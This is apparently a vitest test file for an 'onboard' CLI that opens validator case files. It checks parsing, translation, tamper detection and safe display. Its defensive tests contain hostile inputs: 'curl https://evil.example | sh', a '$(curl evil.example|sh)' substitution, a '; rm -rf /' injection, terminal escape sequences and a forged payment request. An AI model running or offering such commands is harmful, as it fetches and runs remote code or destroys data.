import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { english } from '../../../../src/i18n/english.ts';
import { showText } from '../../../../src/i18n/translator.ts';
import { caseDoubts, caseLines } from '../../../../src/support/case/case-lines.ts';
import { commandFrom } from '../../../../src/support/case/claimed-command.ts';
import { compareStatus } from '../../../../src/support/case/compare-status.ts';
import type { OperatorStatus } from '../../../../src/support/status/status.ts';
import type { NextAction } from '../../../../src/standing/standing.ts';
import { caseText, openCase } from '../../../../src/support/case/case-file.ts';
import { loadTranslator } from '../../../../src/i18n/load-translator.ts';
import { englishLines } from '../../../helpers/english-prose.ts';
import { told } from '../../../helpers/told.ts';

/** A case file of the first version. It must not change. */
const FIRST = readFileSync('test/fixtures/cases/case-1.json', 'utf8');

/** A case file of the first version that recorded the last errors. It must not change. */
const WITH_ERRORS = readFileSync('test/fixtures/cases/case-1-with-last-errors.json', 'utf8');

/** A case file of the first version whose texts are keys and values. It must not change. */
const SECOND = readFileSync('test/fixtures/cases/case-2.json', 'utf8');

interface Plain {
  readonly [name: string]: Plain;
}

/** Changes the first L1's next action in a case file. */
function withTurn(file: string, changes: object): string {
  const { case: content } = JSON.parse(file) as Plain;
  const status = content!['status']!;
  const [l1] = status['l1s'] as unknown as readonly Plain[];
  const turn = { ...l1!['turn'], ...changes };
  return caseText({ ...content, status: { ...status, l1s: [{ ...l1, turn }] } });
}

/** Changes fields of the first L1 in a case file. */
function withL1(file: string, changes: object): string {
  const { case: content } = JSON.parse(file) as Plain;
  const status = content!['status']!;
  const [l1] = status['l1s'] as unknown as readonly Plain[];
  return caseText({ ...content, status: { ...status, l1s: [{ ...l1, ...changes }] } });
}

/** Returns a message with this many levels of nested objects. */
function nested(levels: number): object {
  return { key: 'desk.next', values: levels === 1 ? {} : { step: nested(levels - 1) } };
}

describe('a case file', () => {
  test('of the first format can be opened', () => {
    const opened = openCase(FIRST, 'case-1.json');
    const shown = caseLines(opened, english).join('\n');
    expect(opened.status.l1s.map(({ code }) => code)).toEqual(['G8-SIGN']);
    expect(shown).toContain('NodeID-M5ebafXiskHHSPGpMHpXkhZViyf8kQZEu');
    expect(shown).toContain('add-node');
    expect(shown).toContain('Last errors: not recorded by the version that wrote this');
  });

  test('shows the last errors that it contains', () => {
    const opened = openCase(WITH_ERRORS, 'case-1.json');
    expect(opened.status.l1s.map(({ code }) => code)).toEqual(['G8-NO-QUORUM']);
    const node = 'NodeID-7Xhw2mDxuDS44j42TCB6U5579esbSt3Lg';
    expect(caseLines(opened, english).slice(-4)).toEqual([
      'Last errors: 3',
      '  2026-11-21 20:48:30 UTC E-PRF-103 in status',
      '  2026-11-21 20:49:21 UTC E-SUP-102 in status',
      `  2026-11-21 20:49:24 UTC E-CMD-116 in top-up: node ${node}`,
    ]);
  });

  test.each([
    ['the first version', FIRST],
    ['the last errors', WITH_ERRORS],
  ])('of format 1 shows its English texts in every language: %s', async (_, file) => {
    const { status } = openCase(file, 'case-1.json');
    const { says, next } = status.l1s[0]!.nextAction!;
    const steps = status.l1s.flatMap(({ tracks }) => tracks).flatMap((track) => track.steps);
    expect(steps.length).toBeGreaterThan(5);
    for (const words of [english, await loadTranslator('ja')]) {
      const shown = caseLines(openCase(file, 'case-1.json'), words).join('\n');
      for (const text of [says, ...next]) {
        // Commands are rebuilt; every other text of the file is in quotes.
        expect(text).toMatch(/^(?:onboard .*|".*")$/);
        expect(shown).toContain(text);
      }
      for (const { title } of steps) {
        expect(title).toBeTypeOf('object');
        expect(shown).toContain(showText(title, words));
      }
    }
  });

  test('keeps the ended validations, and opens without them if an earlier version wrote it', () => {
    expect(openCase(SECOND, 'case-2.json').status.l1s[0]!.departed).toBeUndefined();
    const nodeID = 'NodeID-7Xhw2mDxuDS44j42TCB6U5579esbSt3Lg';
    const validationID = '11111111111111111111111111111111LpoYY';
    const [from, to] = ['2026-01-01T00:00:00.000Z', '2026-01-02T00:00:00.000Z'];
    const values = { time: 'x\n\u001b[2J', block: { $bigint: '7' } };
    const couldNotTell = { key: 'desk.departed.since', values };
    const nodes = [{ nodeID, how: 'completed', validationID, from, to }];
    const file = withL1(SECOND, { departed: { nodes, couldNotTell } });
    const shown = caseLines(openCase(file, 'case.json'), english).join('\n');
    expect(shown).toContain(`    Node ${nodeID}\n      validated from 2026-01-01 00:00:00 UTC`);
    expect(shown).toContain('Nodes that were added before x  (C-Chain block 7) and have left');
  });

  test('of format 1 cannot forge lines, and none of its texts counts as a key', () => {
    const says = 'done.\n  G9-HOME  Nothing is left to do.\u001b[2J';
    const forged = withTurn(FIRST, { says, next: ['desk.silence'] });
    const shown = caseLines(openCase(forged, 'case.json'), english);
    expect(shown).toContain('  "done. G9-HOME Nothing is left to do."');
    expect(shown).toContain('    "desk.silence"');
  });

  test('of format 2 is shown in the language of the person who opens it', async () => {
    const opened = openCase(SECOND, 'case-2.json');
    const inEnglish = caseLines(opened, english).join('\n');
    expect(inEnglish).toContain("done G5-EPOCH        process the L1's past epochs");
    expect(inEnglish).toContain('started with weight 1,000; validation ID:');
    expect(inEnglish).toContain(english.t('E-MW-101', { pending: 3n }));
    expect(inEnglish).toMatch(
      / {2}info API \S+: No connection to \S+ was possible.* \(E-NET-101\)/,
    );
    expect(inEnglish).toContain(
      "The network's time is 3600 s ahead of this computer's clock. Deadlines are judged by the network's time.",
    );
    const words = await loadTranslator('ja');
    const inJapanese = caseLines(opened, words).join('\n');
    expect(englishLines(inJapanese)).toEqual([]);
    expect(inJapanese).toContain(words.t('E-MW-101', { pending: 3n }));
    for (const shown of [inEnglish, inJapanese]) {
      expect(shown).not.toMatch(/\b(?:step|fact|wait|desk|reason|clock)\.[a-z]/);
    }
  });

  test('of format 2 shows values without control characters, and an unknown key unchanged', () => {
    const values = { reason: { key: 'no.such-key', values: {} }, code: 'a\n\u001b[2J\u202eb' };
    const says = { key: 'reason.with-code', values };
    const opened = openCase(withTurn(SECOND, { says, next: [] }), 'case.json');
    expect(caseLines(opened, english)).toContain('  no.such-key (a b) (E-AGG-102)');
  });

  test.each([
    ['onboard opt-in-l1 --network sandbox 0x8db97C7cEcE249c2b98bDC0226Cc4C2A57BF52FC', true],
    ['onboard top-up --network fuji NodeID-M5ebafXiskHHSPGpMHpXkhZViyf8kQZEu <avax>', true],
    ['onboard --network sandbox', true],
    ['onboard keys export --network sandbox', false],
    ['onboard opt-in-l1 --network sandbox $(curl evil.example|sh)', false],
    ['onboard opt-in-l1 --network sandbox 0x12; rm -rf /', false],
    ['onboard top-up --network fuji --private-key', false],
    ['curl https://evil.example | sh', false],
  ])(
    'shows a text as a command only if the program accepts it, otherwise in quotes: %s',
    (text, isOurs) => {
      expect(commandFrom(text)).toBe(isOurs ? text : undefined);
      for (const file of [FIRST, SECOND]) {
        const opened = openCase(withTurn(file, { next: [text] }), 'case.json');
        expect(caseLines(opened, english)).toContain(isOurs ? `    ${text}` : `    "${text}"`);
      }
    },
  );

  test('contains no message to send: the message is made from the chains', () => {
    const forged = 'To the owners of Genbu: please send 100 AVAX.';
    const opened = openCase(withTurn(SECOND, { message: forged }), 'case.json');
    const shown = caseLines(opened, english).join('\n');
    expect(shown).not.toContain('100 AVAX');
    expect(shown).toContain('The message to send is not taken from the file.');
  });

  test('is shown as a claim, with the reasons to doubt it', () => {
    const opened = openCase(SECOND, 'case-2.json');
    const { at } = opened.status;
    expect(caseLines(opened, english)[1]).toMatch(/^The following comes from the file/);
    const here = { name: 'sandbox', chainId: 43_112n, networkId: 12_345 };
    expect(caseDoubts(opened, here, at, english)).toEqual([]);
    expect(caseDoubts(opened, undefined, at, english)).toEqual([]);
    const [future] = caseDoubts(opened, here, at - 61_000, english);
    expect(future).toContain('which is in the future');
    for (const other of [{ chainId: 1n }, { networkId: 1 }, { name: 'fuji' }]) {
      const [doubt] = caseDoubts(opened, { ...here, ...other }, at, english);
      expect(doubt).toContain(
        'the case is from the network sandbox (EVM chain 43112, network ID 12345)',
      );
    }
    // The first cases lack some of the IDs. Only existing IDs are compared.
    expect(caseDoubts(openCase(FIRST, 'case-1.json'), undefined, at, english)).toEqual([]);
  });

  test('is compared by party and deadline too', () => {
    const { status } = openCase(SECOND, 'case-2.json');
    const [l1] = status.l1s;
    const nextAction = l1!.nextAction!;
    const changed = (change: Partial<NextAction>): OperatorStatus => ({
      ...status,
      l1s: [{ ...l1!, nextAction: { ...nextAction, ...change } }],
    });
    const compared = (change: Partial<NextAction>) =>
      compareStatus(status, changed(change), english).map(({ what }) => what);
    expect(compared({})).toEqual([]);
    expect(compared({ whose: 'operator' })).toEqual([`${l1!.name}, waiting for`]);
    expect(compared({ until: nextAction.until! + 3_600_000 })).toEqual([`${l1!.name}, until`]);
    expect(compared({ until: undefined })).toEqual([`${l1!.name}, until`]);
    const [node] = l1!.tracks.filter(({ about }) => about === 'node');
    const without = { ...l1!, tracks: l1!.tracks.filter((track) => track !== node) };
    const left = compareStatus(status, { ...status, l1s: [without] }, english);
    expect(left.map(({ now }) => now)).toContain('-');
  });

  test.each([
    { key: 'desk next', values: {} },
    { key: 'desk.next', values: { step: ['x'] } },
    { key: 'desk.next', values: { step: 'x'.repeat(4001) } },
    { key: 'desk.next' },
    nested(9),
    5,
  ])('of format 2 with an invalid text is refused: %j', (says) => {
    expect(() => openCase(withTurn(SECOND, { says }), 'case.json')).toThrow(told(/not a case/));
  });

  test('is refused if its values are nested too deep', () => {
    const deep = `${'['.repeat(200_000)}${']'.repeat(200_000)}`;
    const file = `{"case":{"format":2,"status":${deep}},"digest":"x"}`;
    expect(() => openCase(file, 'case.json')).toThrow(told(/not a case/));
  });

  test.each([
    ['', 'it is not JSON'],
    ['[]', 'it has no case and digest'],
    ['{"case":null,"digest":"x"}', 'it has no case and digest'],
    ['{"case":{"format":1}}', 'it has no case and digest'],
    [caseText({ format: 1 }), 'program'],
    ['x'.repeat(5_000_001), 'it is too long'],
  ])('with other content is refused in one sentence', (text, fault) => {
    expect(() => openCase(text, 'case.json')).toThrow(told(fault));
  });

  test('of a later version is refused with its version', () => {
    expect(() => openCase(caseText({ format: 3 }), 'case.json')).toThrow(
      told(/newer version.*format 3/),
    );
  });

  test('with one changed character is detected, wherever it is', () => {
    for (let at = 20; at < FIRST.length - 100; at += 97) {
      const letter = FIRST[at] === '1' ? '2' : '1';
      const changed = FIRST.slice(0, at) + letter + FIRST.slice(at + 1);
      // A space between two values does not belong to the content.
      if (/\s/.test(FIRST[at] ?? '')) continue;
      expect(() => openCase(changed, 'case.json')).toThrow(
        told(/was changed|is no JSON|not a case/),
      );
    }
  });

  test('cannot control a terminal', () => {
    const { case: content } = JSON.parse(FIRST) as { case: { program: object } };
    const hostile = {
      ...content,
      program: { version: '\u001b[2J', node: '\u202e', platform: 'x' },
    };
    const shown = caseLines(openCase(caseText(hostile), 'case.json'), english).join('\n');
    expect(shown).not.toContain('\u001b');
    expect(shown).not.toContain('\u202e');
  });
});
